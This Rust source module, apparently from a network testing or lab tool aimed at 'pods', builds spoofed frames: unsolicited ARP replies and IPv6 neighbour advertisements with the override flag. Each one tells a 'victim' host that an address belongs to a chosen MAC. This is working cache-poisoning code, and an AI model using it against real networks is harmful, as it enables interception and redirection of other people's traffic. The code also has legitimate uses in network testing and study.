//! Lies about who is where on the link.

use std::net::{IpAddr, Ipv6Addr};

use anyhow::Result;

use super::frame::{self, Mac, checksum_between, ethernet};
use crate::pod::Pod;

/// A frame that tells `victim` that `address` is at `mac`.
pub(super) fn claim(address: IpAddr, mac: Mac, victim: &Pod) -> Result<Vec<u8>> {
    let to = victim.mac()?;
    Ok(match address {
        IpAddr::V4(_) => ethernet(to, mac, frame::ARP, &reply(address, mac, victim.ip4().into(), to)),
        IpAddr::V6(ip) => ethernet(to, mac, frame::IPV6, &advertisement(ip, mac, victim.ip6())),
    })
}

/// An ARP reply that nobody asked for (RFC 826).
fn reply(address: IpAddr, mac: Mac, victim: IpAddr, victim_mac: Mac) -> Vec<u8> {
    const ETHERNET: [u8; 2] = [0, 1];
    const REPLY: [u8; 2] = [0, 2];
    let kinds = [ETHERNET, frame::IPV4.to_be_bytes(), [6, 4], REPLY].concat();
    [&kinds[..], &mac.0, &frame::octets(address), &victim_mac.0, &frame::octets(victim)].concat()
}

/// A neighbour advertisement that nobody asked for and that overrides what is known (RFC 4861, 4.4).
fn advertisement(address: Ipv6Addr, mac: Mac, victim: Ipv6Addr) -> Vec<u8> {
    const ICMPV6: u8 = 58;
    const ADVERTISEMENT: u8 = 136;
    const OVERRIDE: u8 = 0x20;
    const TARGET_LINK_LAYER_ADDRESS: [u8; 2] = [2, 1];
    let head = [ADVERTISEMENT, 0, 0, 0, OVERRIDE, 0, 0, 0];
    let mut message = [&head[..], &address.octets(), &TARGET_LINK_LAYER_ADDRESS, &mac.0].concat();
    let ends = [IpAddr::from(address), victim.into()];
    let sum = checksum_between(ends[0], ends[1], ICMPV6, &message);
    message[2..4].copy_from_slice(&sum);
    frame::ipv6(ends, ICMPV6, &message)
}
